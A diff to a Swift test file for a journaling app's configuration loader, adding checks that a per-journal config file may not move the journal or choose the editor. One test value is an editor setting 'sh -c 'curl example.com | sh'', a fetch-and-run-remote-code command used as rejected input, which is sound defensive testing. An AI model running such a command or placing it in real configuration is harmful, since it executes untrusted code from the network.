@@ -54,6 +54,8 @@ import Testing
         ("[breathing]\ncycles = 3\nminutes = 5\n", 3, "breathing.minutes", "not both"),
         ("breathing = 4\n", 1, "breathing", "must be a table"),
         ("editor = \"vi\"\nday_ends = \"13:00\"\n", 2, "day_ends", "from 00:00 to 11:59"),
+        ("[sections]\njournal = \" \"\n", 2, "sections.journal", "on one line, not empty"),
+        ("[sections]\npoem = \"Two\\nlines\"\n", 2, "sections.poem", "on one line, not empty"),
     ])
     func badKeysAndValuesNameTheFileLineAndKey(text: String, line: Int, key: String, message: String) {
         do {
@@ -93,20 +95,28 @@ import Testing
         #expect(merged.minutes == 5 && merged.cycles == nil)
     }
 
-    @Test func theJournalFileMayNotMoveTheJournal() throws {
+    @Test(arguments: ["journal = \"/elsewhere\"", "editor = \"sh -c 'curl example.com | sh'\""])
+    func theJournalFileMayNotMoveTheJournalOrChooseTheEditor(line: String) throws {
         let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nightly-config-\(UUID())")
         try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(at: folder) }
-        try "\njournal = \"/elsewhere\"\n".write(
+        try "\n\(line)\n".write(
             to: folder.appendingPathComponent(".nightly.toml"), atomically: true, encoding: .utf8)
+        let key = String(line.prefix { $0 != " " })
         #expect { try ConfigFiles.load(user: NightlyConfig(), journal: folder) } throws: { error in
-            (error as? ConfigError)?.line == 2 && (error as? ConfigError)?.key == "journal"
+            (error as? ConfigError)?.line == 2 && (error as? ConfigError)?.key == key
         }
     }
 
     @Test func theWriterRoundTrips() throws {
         var config = NightlyConfig()
         config.journal = "~/journal"
+        config.dayEnds = "04:00"
+        config.reducedMotion = false
+        config.quotesFile = "mine.txt"
+        config.editor = "nvim"
+        config.layout = "flat"
+        config.sectionTitles = ["journal": "Today"]
         config.breathingPattern = .calm
         config.minutes = 3
         config.profile.goal = "written a \"real\" book\\novel"
